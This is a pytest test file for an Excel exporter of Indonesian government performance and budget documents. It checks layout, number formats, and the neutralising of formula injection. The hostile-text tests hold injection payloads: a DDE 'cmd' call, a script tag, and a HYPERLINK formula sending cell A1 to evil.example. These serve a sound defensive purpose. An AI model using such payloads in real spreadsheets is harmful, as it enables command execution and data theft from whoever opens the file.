"""The Excel workbook, read back cell by cell with openpyxl.

On the seed corpus: one sheet per table with a frozen header and a filter, rupiah amounts as
exact integers, NIPs as text, percent targets as numbers with two decimals, coloured status
cells. On a hostile document: formula-looking text is stored as text, never as a formula.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from emit import WORKBOOK_NAME, write_workbook
from emit.workbook import (
    AMOUNT_FORMAT,
    INTEGER_FORMAT,
    PERCENT_FORMAT,
    ColumnKind,
    WorkbookWriter,
    cell_plan,
    column_kind,
    looks_like_formula,
    write_cell,
)
from extract.models import Period
from extract.rows import DocumentRow
from pipeline import RunOptions, run
from score import Colour
from store import RunSnapshot, StoreRun
from tests.golden import ROOT
from tests.report.scores import with_capaian
from tests.shared import seed_run

HOSTILE = ROOT / "tests" / "fixtures" / "report" / "hostile_pk.txt"
PERBEN = "2024-direktur-jenderal-perbendaharaan"
PK_001 = "001_34f370b0fcbb94ab--01-pk"
SHEETS = ["Dokumen", "Pihak", "Indikator", "Target", "Realisasi", "Anggaran", "Temuan", "Skor", "Skor SKP", "Isu"]
CAPAIAN = [("1a-CP", Period.Y, "100.00", Colour.HIJAU), ("2a-CP", Period.Y, "61.54", Colour.MERAH)]
RAWS = {"1a-CP": ("100%", "100%"), "2a-CP": ("3,25 (skala 4)", "2")}


@pytest.fixture(scope="module")
def seed_result() -> RunSnapshot:
    return with_capaian(StoreRun(seed_run()), PERBEN, CAPAIAN, RAWS)


@pytest.fixture(scope="module")
def workbook_path(seed_result: RunSnapshot, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_workbook(seed_result, tmp_path_factory.mktemp("xlsx") / WORKBOOK_NAME)


@pytest.fixture(scope="module")
def wb(workbook_path: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(workbook_path)


def records(ws: Worksheet) -> list[dict[str, Cell]]:
    """The sheet's rows as {header: cell}."""
    header = [c.value for c in ws[1]]
    return [dict(zip(header, row, strict=True)) for row in ws.iter_rows(min_row=2)]


def one(ws: Worksheet, **where: object) -> dict[str, Cell]:
    found = [r for r in records(ws) if all(r[k].value == v for k, v in where.items())]
    assert len(found) == 1, f"{len(found)} rows match {where}"
    return found[0]


# ---------------------------------------------------------------- layout


def test_one_sheet_per_table_with_frozen_header_and_filter(wb: openpyxl.Workbook, seed_result: RunSnapshot) -> None:
    assert wb.sheetnames == SHEETS
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2", ws.title
        last = ws.cell(row=1, column=ws.max_column).column_letter
        assert ws.auto_filter.ref == f"A1:{last}{max(ws.max_row, 2)}", ws.title
        assert ws["A1"].font.b, "the header is bold"
    assert wb["Dokumen"].max_row == len(seed_result.documents) + 1
    assert [c.value for c in wb["Anggaran"][1]] == ["doc_id", "source_file", "level", "label", "name", "amount",
                                                    "parent", "raw", "line", "realisasi", "persen"]


def test_written_atomically(workbook_path: Path, seed_result: RunSnapshot, monkeypatch: pytest.MonkeyPatch) -> None:
    assert sorted(p.name for p in workbook_path.parent.iterdir()) == [WORKBOOK_NAME]
    before = workbook_path.read_bytes()

    import xlsxwriter

    def broken_close(self: xlsxwriter.Workbook) -> None:
        Path(self.filename).write_bytes(b"half a workbook")
        raise OSError("disk full")

    monkeypatch.setattr(xlsxwriter.Workbook, "close", broken_close)
    with pytest.raises(OSError, match="disk full"):
        write_workbook(seed_result, workbook_path)
    assert workbook_path.read_bytes() == before, "the old workbook is untouched"
    assert sorted(p.name for p in workbook_path.parent.iterdir()) == [WORKBOOK_NAME], "no temporary file is left"


# ---------------------------------------------------------------- cells of a seed dossier


def test_rupiah_amounts_are_exact_integers(wb: openpyxl.Workbook) -> None:
    ws = wb["Anggaran"]
    program = one(ws, doc_id=PK_001, line=158)
    assert program["amount"].value == 79_534_353_000
    assert type(program["amount"].value) is int
    assert program["amount"].number_format == AMOUNT_FORMAT
    assert program["raw"].value == "Rp. 79.534.353.000" and program["raw"].data_type == "s"
    programs = [r["amount"].value for r in records(ws) if r["doc_id"].value == PK_001 and r["level"].value == "program"]
    assert programs == [79_534_353_000, 7_235_932_585_000]
    assert sum(programs) == 7_315_466_938_000, "the Lampiran SKP's Jumlah Anggaran, to the rupiah"
    assert one(ws, doc_id=PK_001, line=191)["amount"].value == 5_733_450_257_000


def test_big_amount_survives_the_file(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    write_cell(book.active["A1"], 7_315_466_938_000, ColumnKind.AMOUNT)
    book.save(tmp_path / "a.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "a.xlsx").active["A1"]
    assert cell.value == 7_315_466_938_000 and type(cell.value) is int
    xml = zipfile.ZipFile(tmp_path / "a.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert "<v>7315466938000</v>" in xml, "written as digits, not as a rounded float"


def test_nip_is_text(wb: openpyxl.Workbook) -> None:
    row = one(wb["Pihak"], doc_id="001_34f370b0fcbb94ab--03-skp", role="pegawai")
    nip = row["nip"]
    assert nip.value == "196801201992011003"
    assert nip.data_type == "s"
    assert nip.number_format == "@"
    assert row["name"].value == "Astera Primanto Bhakti"


def test_targets_are_numbers_with_indonesian_formats(wb: openpyxl.Workbook) -> None:
    ws = wb["Target"]
    doc = "001_34f370b0fcbb94ab--02-rincian_target"
    q1 = one(ws, doc_id=doc, indicator_code="4a-CP", period="Q1")
    assert q1["value"].value == pytest.approx(15.91, abs=0) and q1["value"].data_type == "n"
    assert q1["value"].number_format == PERCENT_FORMAT == '#,##0.00"%"'
    assert q1["raw"].value == "15,91%" and q1["kind"].value == "percent"
    index = one(ws, doc_id=doc, indicator_code="2a-CP", period="Q1")
    assert index["value"].value == pytest.approx(3.25, abs=0) and index["value"].number_format == "#,##0.00"
    empty = one(ws, doc_id=doc, indicator_code="2b-CP", period="Q1")
    assert empty["value"].value is None and empty["raw"].value == "-"
    djpk = one(ws, doc_id="000_fce74ff394373077--01-pk", indicator_code="8b-CP", period="Y")
    assert djpk["value"].value == pytest.approx(84.1, abs=0) and djpk["value"].number_format == "#,##0.00"
    assert one(ws, doc_id="000_fce74ff394373077--01-pk", indicator_code="1a-CP", period="Y")["value"].number_format \
        == AMOUNT_FORMAT


def test_integers_are_not_grouped(wb: openpyxl.Workbook) -> None:
    row = one(wb["Dokumen"], doc_id=PK_001)
    assert row["year"].value == 2024 and row["year"].number_format == INTEGER_FORMAT
    assert row["e_signed"].data_type == "b"


def test_status_cells_are_coloured(wb: openpyxl.Workbook) -> None:
    ok = one(wb["Dokumen"], doc_id=PK_001)["status"]
    assert ok.value == "ok" and ok.fill.fgColor.rgb.endswith("C6EFCE")
    score = one(wb["Skor"], dossier=PERBEN, level="iku", key="2a-CP")
    assert score["status"].value == "merah" and score["status"].fill.fgColor.rgb.endswith("FFC7CE")
    assert score["capaian"].value == pytest.approx(61.54, abs=0) and score["capaian"].number_format == PERCENT_FORMAT
    assert score["target"].value == "3,25 (skala 4)", "a raw target stays text"
    hijau = one(wb["Skor"], dossier=PERBEN, level="iku", key="1a-CP")["status"]
    assert hijau.fill.fgColor.rgb.endswith("C6EFCE")
    error = next(r for r in records(wb["Temuan"]) if r["check"].value == "budget_sum_mismatch")["severity"]
    assert error.value == "error" and error.fill.fgColor.rgb.endswith("FFC7CE")


def test_skor_holds_each_consistency_and_capaian_row_once(seed_result: RunSnapshot, wb: openpyxl.Workbook) -> None:
    from score import all_score_rows

    everything = all_score_rows(seed_result.audit.dossiers, seed_result.scores)
    keys = [(r["dossier"].value, r["level"].value, r["key"].value) for r in records(wb["Skor"])]
    assert len(keys) == len(set(keys)) == len(everything)
    assert sum(level == "iku" for _, level, _ in keys) == len(CAPAIAN)


def test_consistency_and_findings_sheets(wb: openpyxl.Workbook) -> None:
    total = one(wb["Skor"], dossier=PERBEN, level="consistency", key="total")
    assert (total["checked"].value, total["passed"].value) == (517, 512)  # + party_unsigned (4 parties, signed electronically) and signing_date_unusual (1 PK, 1 SKP)
    assert total["capaian"].value == pytest.approx(99.03, abs=0)  # 512 of 517
    finding = one(wb["Temuan"], check="budget_sum_mismatch", expected="Rp 79.534.353.000")
    assert finding["found"].value == "Rp 79.524.353.000"
    assert finding["location"].value.startswith("001_34f370b0fcbb94ab.txt:L158")


# ---------------------------------------------------------------- hostile text


@pytest.fixture(scope="module")
def hostile_book(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("hostile")
    result = run([HOSTILE], RunOptions(out=out / "run", executor="inline", use_cache=False))
    return write_workbook(result, out / WORKBOOK_NAME)


def test_formula_looking_text_is_text(hostile_book: Path) -> None:
    ws = openpyxl.load_workbook(hostile_book)["Indikator"]
    names = {r["indicator_code"].value: r["indicator_name"] for r in records(ws) if r["doc_id"].value.endswith("-pk")}
    assert names["1a-CP"].value == "<script>alert(1)</script>"
    link = names["1b-CP"]
    assert link.value == '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    assert link.data_type == "s" and link.quotePrefix
    assert names["2a-N"].value == "+cmd|' /C calc'!A0" and names["2a-N"].quotePrefix
    assert names["2b-N"].value == "@SUM(1+1)" and names["2b-N"].quotePrefix
    assert not names["1a-CP"].quotePrefix
    budget = {r["name"].value: r["name"] for r in records(openpyxl.load_workbook(hostile_book)["Anggaran"])}
    assert budget["=1+1"].data_type == "s" and budget["=1+1"].quotePrefix


def test_no_formula_anywhere_in_the_file(hostile_book: Path) -> None:
    with zipfile.ZipFile(hostile_book) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert "<f>" not in z.read(name).decode() and "<f " not in z.read(name).decode(), name


@pytest.mark.parametrize("text, formula", [
    ("=HYPERLINK(1)", True), ("=", True), ("+62 21 555", True), ("-", True), ("-5", False), ("-1,5", False),
    ("+10", False), ("@SUM(A1)", True), ("\t=1", True), ("Rp 1.000", False), ("34,94%", False), ("", False),
])
def test_looks_like_formula(text: str, formula: bool) -> None:
    assert looks_like_formula(text) is formula


def test_illegal_characters_and_long_text(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    write_cell(book.active["A1"], "a\x0bb\x00c", ColumnKind.TEXT)
    write_cell(book.active["A2"], "x" * 40_000, ColumnKind.TEXT)
    book.save(tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert ws["A1"].value == "a\ufffdb\ufffdc"
    assert len(ws["A2"].value) == 32_767 and ws["A2"].value.endswith("…")


def test_a_sheet_past_the_row_limit_continues_on_the_next(tmp_path: Path) -> None:
    path = tmp_path / "k.xlsx"
    rows = [DocumentRow(doc_id=f"d{i}", source_file="f", doc_type="pk", unit=None, year=2024, status="ok", pages=1,
                        issues=0, instansi=None, nomor=None, place=None, date=None, e_signed=False, first_line=None,
                        last_line=None) for i in range(12)]
    with WorkbookWriter(path, max_rows=5) as book:
        book.add("documents", rows[:7])
        book.add("parties", [])
        book.add("documents", rows[7:])
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames[:1] == ["Dokumen"] and wb.sheetnames[-2:] == ["Dokumen (2)", "Dokumen (3)"]
    ids = [r[0] for t in ("Dokumen", "Dokumen (2)", "Dokumen (3)") for r in wb[t].iter_rows(min_row=2, values_only=True)]
    assert ids == [f"d{i}" for i in range(12)]
    assert all(wb[t]["A1"].value == "doc_id" and wb[t].freeze_panes == "A2" for t in ("Dokumen", "Dokumen (3)"))
    assert wb["Dokumen (3)"].auto_filter.ref == "A1:Q5"  # the 17 columns of documents


def test_an_english_workbook_has_english_sheets_and_findings(seed_result: RunSnapshot, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(write_workbook(seed_result, tmp_path / WORKBOOK_NAME, lang="en"))
    assert book.sheetnames == ["Documents", "Parties", "Indicators", "Targets", "Measures", "Budget", "Findings",
                               "Scores", "SKP scores", "Issues"]
    messages = {r["check"].value: r["message"].value for r in records(book["Findings"])}
    assert messages["budget_sum_mismatch"].startswith("The items under ")
    assert book["Documents"]["A1"].value == "doc_id"  # the columns are the tables', in every language


def test_a_budget_realisation_is_rupiah_and_a_scores_realisasi_its_printed_text() -> None:
    assert column_kind("realisasi", int | None, "budget") is ColumnKind.AMOUNT
    assert column_kind("realisasi", str | None, "scores") is ColumnKind.DECIMAL
    assert cell_plan(7_315_466_938_000, ColumnKind.AMOUNT)[:2] == (7_315_466_938_000, AMOUNT_FORMAT)
    assert cell_plan("3,25 (skala 4)", ColumnKind.DECIMAL)[0] == "3,25 (skala 4)"  # printed text stays text
